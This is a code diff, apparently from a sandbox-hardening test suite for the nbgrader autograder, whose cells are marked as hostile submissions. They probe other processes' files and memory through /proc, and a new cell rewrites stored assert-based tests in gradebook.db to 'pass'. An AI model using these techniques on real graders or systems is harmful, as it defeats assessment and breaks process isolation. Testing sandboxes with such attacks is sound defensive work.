@@ -59,9 +59,8 @@ def cube(x):
 import glob
 import os
 
-mine = os.readlink("/proc/self")
 for folder in glob.glob("/proc/[0-9]*"):
-    if os.path.basename(folder) != mine:
+    if not os.path.samefile(folder, "/proc/self"):
         for path in PLACES["files"]:
             attempt(f"{folder}/root", lambda: open(f"{folder}/root{path}").read(10))
         attempt(f"{folder}/mem", lambda: open(f"{folder}/mem", "rb+"))
@@ -166,6 +165,29 @@ attempt("the marks", lambda: subprocess.run([sys.executable, "-c", code, "0", *m
                                             text=True).stdout.strip())  # fmt: skip
 subprocess.Popen([sys.executable, "-c", code, "4", *marks], start_new_session=True, stdin=subprocess.DEVNULL,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+
+
+def cube(x):
+    return 0
+
+
+# %% hostile="stored-tests" exercise="cube" loses="*"
+# Finds the tests that nbgrader stores in the gradebook, to put them into every submission, and empties them.
+import os
+import sqlite3
+
+
+def emptied():
+    found = 0
+    for path in PLACES["files"]:
+        if path.endswith("gradebook.db") and os.path.isfile(path):
+            base = sqlite3.connect(path, timeout=5)
+            found += base.execute("update source_cell set source = 'pass' where source like '%assert%'").rowcount
+            base.commit()
+    return found
+
+
+attempt("the stored tests", emptied)
 
 
 def cube(x):
